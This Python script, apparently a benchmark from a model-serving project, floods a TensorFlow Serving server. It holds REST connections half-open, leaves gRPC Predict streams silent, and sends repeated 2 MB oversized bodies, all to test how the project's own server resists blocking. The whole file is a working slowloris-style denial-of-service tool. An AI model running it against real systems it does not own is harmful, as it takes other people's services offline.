"""Clients that try to block a server: half-open connections and large bodies.

Half of the connections send the headers of an HTTP request, one byte a second.
The other half are gRPC streams of Predict that never send their message.
Whenever the server closes a connection, the attacker opens it again. One more
client sends bodies of 2 MB with too many rows, up to ten a second. Stop the
attack with Ctrl-C or SIGTERM; the last line counts what was sent.
"""

import argparse
import asyncio
import collections
import contextlib
import signal
import sys
import urllib.parse

import grpc

from stftgan_tf import cli

EXAMPLE = (
    "python benchmarks/attackers.py --rest http://127.0.0.1:8501 "
    "--grpc 127.0.0.1:8500"
)

_PREDICT = "/tensorflow.serving.PredictionService/Predict"

# Two million bytes: a million rows.
_BODY = b'{"instances":[' + b"0," * 999_990 + b"0]}"

# Seconds between two bodies. Without a pause, an attacker on the same machine
# would take a core, whatever the server does.
_PAUSE_SECS = 0.1


class Attack:
    """Attacks one server until `run` is cancelled.

    Attributes:
      counts: how many connections of each kind were opened, and how many
        bodies were answered, by status.
    """

    def __init__(self, rest: str, target: str, path: str):
        """`rest` is the host and port of REST, `target` that of gRPC."""
        self._host, port = rest.rsplit(":", 1)
        self._port, self._target, self._path = int(port), target, path
        self.counts: collections.Counter = collections.Counter()

    async def run(self, connections: int) -> None:
        """Starts all attackers."""
        half = connections // 2
        jobs = [self._slow_headers() for _ in range(half)]
        jobs += [self._silent_stream(i) for i in range(connections - half)]
        await asyncio.gather(*jobs, self._large_bodies())

    async def _slow_headers(self) -> None:
        head = f"POST {self._path} HTTP/1.1\r\nHost: x\r\nX-Slow: ".encode()
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await self._connect()
                self.counts["half-open HTTP"] += 1
                writer.write(head)
                while not (reader.at_eof() or writer.is_closing()):
                    writer.write(b"x")
                    await asyncio.sleep(1)
                writer.close()
            await asyncio.sleep(0.1)

    async def _silent_stream(self, index: int) -> None:
        async def silence():
            await asyncio.Event().wait()
            yield b""

        # Channels with equal options would share a connection.
        options = [("attack.index", index)]
        while True:
            async with grpc.aio.insecure_channel(
                self._target, options
            ) as channel:
                self.counts["silent gRPC"] += 1
                with contextlib.suppress(grpc.aio.AioRpcError):
                    await channel.stream_unary(_PREDICT)(silence())
            await asyncio.sleep(0.1)

    async def _large_bodies(self) -> None:
        head = (
            f"POST {self._path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            f"Content-Length: {len(_BODY)}\r\n\r\n"
        ).encode()
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await self._connect()
                writer.write(head + _BODY)
                await writer.drain()
                line = (await reader.read()).split(b"\r\n")[0].decode()
                self.counts[f"2 MB body, {line or 'no answer'}"] += 1
                writer.close()
            await asyncio.sleep(_PAUSE_SECS)

    async def _connect(self):
        return await asyncio.open_connection(self._host, self._port)


async def _attack(args: argparse.Namespace) -> None:
    rest = urllib.parse.urlsplit(args.rest)
    path = f"/v1/models/{args.model_name}:predict"
    attack = Attack(rest.netloc, args.grpc, path)
    task = asyncio.current_task()
    for number in (signal.SIGINT, signal.SIGTERM):
        asyncio.get_running_loop().add_signal_handler(number, task.cancel)
    with contextlib.suppress(asyncio.CancelledError):
        await attack.run(args.connections)
    counts = sorted(attack.counts.items())
    print("; ".join(f"{number} x {name}" for name, number in counts))


def main(argv: list[str] | None = None) -> int:
    """The command line."""
    parser = cli.parser(__doc__, EXAMPLE)
    parser.add_argument("--rest", required=True, help="address of REST")
    parser.add_argument("--grpc", required=True, help="address of gRPC")
    parser.add_argument(
        "--model_name", default="load", help="name of the model (default: load)"
    )
    parser.add_argument(
        "--connections",
        type=int,
        default=200,
        help="half-open connections of both protocols (default: 200)",
    )
    args = parser.parse_args(argv)
    return cli.run_command(lambda args: asyncio.run(_attack(args)) or 0, args)


if __name__ == "__main__":
    sys.exit(main())
